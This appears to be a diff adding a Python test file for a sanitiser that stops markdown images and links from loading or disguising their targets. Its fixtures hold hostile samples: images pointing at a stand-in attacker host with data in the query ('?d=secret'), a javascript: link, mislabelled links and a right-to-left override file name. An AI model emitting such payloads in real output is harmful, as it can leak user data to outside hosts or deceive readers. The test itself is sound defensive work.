@@ -1,0 +1,73 @@
+"""Text from elsewhere on screen: nothing in it loads, hides or acts."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from lib.ui.inert import plain, plain_lines, prose
+
+IMAGES_AND_LINKS = {
+    "image": "look ![chart](http://evil.example/x.png?d=secret)",
+    "image in a link": "[![a](http://evil.example/i)](http://evil.example/c)",
+    "image by reference": "![a][r]\n\n[r]: http://evil.example/i.png",
+    "image by short reference": "![a]\n\n[a]: http://evil.example/i.png",
+    "image in a table": "| a |\n|---|\n| ![i](http://evil.example) |",
+    "image after an open backtick": "a ` b\n\nc ![x](http://evil.example/q) ` d",
+    "image over two lines": "![a\nb](http://evil.example/x)",
+    "image in a quote in a list": "- > ![a](http://evil.example/x)",
+    "image with angle brackets": "![a](<http://evil.example/a b>)",
+    "link with another name": "[https://good.example](https://evil.example)",
+    "script link": "[press](javascript:alert(1))",
+    "link with a title": '[a](http://evil.example "http://good.example")',
+}
+
+
+def targets(markdown: str) -> list[str]:
+    """What a CommonMark reader would load, or follow under another name than the target's."""
+    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
+    inline = [child for token in tokens for child in token.children or ()]
+    return [t.type for t in inline if t.type == "image" or (t.type == "link_open" and t.markup != "autolink")]
+
+
+@pytest.mark.parametrize("markdown", IMAGES_AND_LINKS.values(), ids=IMAGES_AND_LINKS.keys())
+def test_nothing_loads_and_every_link_shows_where_it_leads(markdown: str) -> None:
+    assert targets(markdown)
+    assert targets(prose(markdown)) == []
+
+
+@given(st.text(alphabet="![]()`<>:/\\\n -|ab\"'#~*_=.h", max_size=80))
+def test_no_mixture_of_marks_gets_through(markdown: str) -> None:
+    assert targets(prose(markdown)) == []
+
+
+def test_code_stays_to_the_letter() -> None:
+    markdown = "Use `a[0](x)` or\n\n```python\nv = rows[1](2)\n![kept](http://kept.example)\n```\n\ndone"
+    made = prose(markdown)
+    assert "`a[0](x)`" in made
+    assert "v = rows[1](2)\n![kept](http://kept.example)" in made
+
+
+def test_plain_markdown_is_left_alone() -> None:
+    markdown = "# Title\n\n1. **a** and *b*\n2. `c`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\nSee <https://duckdb.org>."
+    assert prose(markdown) == markdown
+
+
+def test_diagrams_stay_code() -> None:
+    assert prose("```mermaid\ngraph TD\n```").startswith("```text")
+
+
+@pytest.mark.parametrize("text", ["a*b*", "<script>", "[x](y)", "`c`", "# h", "$1$", ":red[x]", "a|b", "1. x"])
+def test_names_are_literal(text: str) -> None:
+    shown = MarkdownIt().renderInline(plain(text))
+    assert shown == text.replace("<", "&lt;").replace(">", "&gt;")
+
+
+def test_names_cannot_reorder_or_hide_text() -> None:
+    assert plain("sales\u202evsc.exe\x00\u200b") == "sales vsc\\.exe"
+
+
+def test_a_question_keeps_its_lines() -> None:
+    assert plain_lines("a\nb") == "a  \nb"
